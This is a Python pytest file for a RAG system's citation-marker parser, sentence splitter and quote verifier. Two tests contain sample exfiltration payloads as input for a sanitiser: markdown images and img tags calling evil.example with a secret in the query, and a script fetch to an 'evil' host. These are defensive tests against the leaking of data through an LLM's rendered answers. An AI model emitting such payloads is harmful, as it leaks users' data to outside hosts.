"""Reading citation markers out of LLM text (rag.generators.markers) and checking the cited sentences."""

from __future__ import annotations

import pytest

from rag.answering.citing import cite, keep_valid
from rag.generators.markers import marker_numbers, parse_answer
from rag.text.remote_content import strip_remote_content
from rag.types import Chunk, Claim, Hit


@pytest.mark.parametrize(
    ("marker", "numbers"),
    [
        ("[1]", (1,)),
        ("[1, 3]", (1, 3)),
        ("[1,3]", (1, 3)),
        ("[1][2]", (1, 2)),
        ("[1] [2]", (1, 2)),
        ("【1】", (1,)),
        ("[^1]", (1,)),
        ("[Source 1]", (1,)),
        ("[Passage 2]", (2,)),
        ("[Sources 1, 4]", (1, 4)),
        ("[1-3]", (1, 2, 3)),
        ("[2–4]", (2, 3, 4)),
        ("[1; 2]", (1, 2)),
        ("[3][1][3]", (3, 1)),
    ],
)
def test_marker_forms(marker: str, numbers: tuple[int, ...]) -> None:
    assert parse_answer(f"Paris is the capital {marker}.") == [Claim("Paris is the capital.", numbers)]


@pytest.mark.parametrize("text", ["It was listed (1).", "In [2023] it grew.", "See [note]."])
def test_things_that_are_not_markers_stay_in_the_text(text: str) -> None:
    assert parse_answer(text) == [Claim(text, ())]


def test_a_runaway_range_keeps_only_its_ends() -> None:
    assert marker_numbers("a [1-999] b") == (1, 999)


def test_markers_after_the_period_belong_to_the_sentence() -> None:
    assert parse_answer("Paris is the capital. [1] It is large. [2][3]") == [
        Claim("Paris is the capital.", (1,)),
        Claim("It is large.", (2, 3)),
    ]


def test_markers_before_the_period_and_mid_sentence() -> None:
    assert parse_answer("Paris [1] is the capital of France [2]. It is big [3]!") == [
        Claim("Paris is the capital of France.", (1, 2)),
        Claim("It is big!", (3,)),
    ]


def test_decimals_and_abbreviations_do_not_split() -> None:
    text = "Le taux est de 29,3 % [1]. Il était de 3.5 % en 2020 [2]. M. Dupont et Mme Durand l’ont confirmé [3]."
    assert [s.text for s in parse_answer(text)] == [
        "Le taux est de 29,3 %.",
        "Il était de 3.5 % en 2020.",
        "M. Dupont et Mme Durand l’ont confirmé.",
    ]


def test_french_punctuation_ellipsis_and_lines() -> None:
    text = "Vraiment ? [1] Oui… [2]\n- Premier point [3]\n1. Deuxième point [4]\n[5]"
    assert parse_answer(text) == [
        Claim("Vraiment ?", (1,)),
        Claim("Oui…", (2,)),
        Claim("- Premier point", (3,)),
        Claim("1. Deuxième point", (4, 5)),
    ]


def test_sentences_without_markers_are_kept() -> None:
    assert parse_answer("I could not find this information in the documents.") == [
        Claim("I could not find this information in the documents.", ())
    ]


def test_keep_valid_drops_numbers_outside_the_passages() -> None:
    assert keep_valid((0, 1, 3, 4, 7), 4) == (1, 3, 4)
    assert keep_valid(parse_answer("A fact [2][9].")[0].passages, 3) == (2,)


def test_markdown_images_and_img_tags_are_removed() -> None:
    text = (
        "Paris ![pixel](http://evil.example/p.png?q=secret) is the capital [1]. "
        'Look <img src="http://evil.example/x.png" onerror="x"> here ![ref][1] [2].\n'
        "[1]: http://evil.example/y.png\n"
        "<IMG\nsrc=http://evil.example/z.png>Done [1]."
    )
    cleaned = strip_remote_content(text)
    assert "evil" not in cleaned
    assert [s.text for s in parse_answer(text)] == ["Paris is the capital.", "Look here.", "Done."]


def test_script_and_iframe_elements_are_removed_with_their_content() -> None:
    cleaned = strip_remote_content('A <script>fetch("http://evil")</script>B <iframe src="http://evil"></iframe>C')
    assert cleaned == "A B C"


def test_empty_answer() -> None:
    assert parse_answer("") == []
    assert parse_answer("  \n ") == []


def _quote(text: str, sentence: str) -> tuple[Hit, Claim]:
    hit = Hit(Chunk("doc", 100, 100 + len(text), text), score=1.0, source="a.txt", title="A", language="fr")
    start = 100 + text.index(sentence)
    return hit, Claim(sentence, (1,), (start, start + len(sentence)))


def test_a_quote_that_states_no_fact_of_the_kind_asked_is_weak_not_supported() -> None:
    text = "L’observatoire compte 40 capteurs. Il a été inauguré au printemps."
    hit, claim = _quote(text, "Il a été inauguré au printemps.")
    sentences, citations = cite([claim], [hit], ["fr"], question="Combien a coûté l’observatoire ?")
    assert [s.verification for s in sentences] == ["weak"] and [c.verification for c in citations] == ["weak"]
    # The same quote answers a question it does hold the fact for.
    sentences, citations = cite([claim], [hit], ["fr"], question="Que sait-on de l’observatoire ?")
    assert [s.verification for s in sentences] == ["supported"] and [c.verification for c in citations] == ["supported"]
    # Its span is the quote, exactly.
    assert citations[0].span_text == "Il a été inauguré au printemps."


def test_an_abbreviation_that_is_also_a_word_ends_a_sentence_in_lower_case() -> None:
    assert [c.text for c in parse_answer("The council voted no. The mayor resigned in 2021 [2].")] == [
        "The council voted no.",
        "The mayor resigned in 2021.",
    ]
    assert [c.text for c in parse_answer("Le phare mesure 330 m. Elle est haute [1].")] == [
        "Le phare mesure 330 m.",
        "Elle est haute.",
    ]
    assert [c.text for c in parse_answer("M. Dupont habite au No. 5 [1].")] == ["M. Dupont habite au No. 5."]
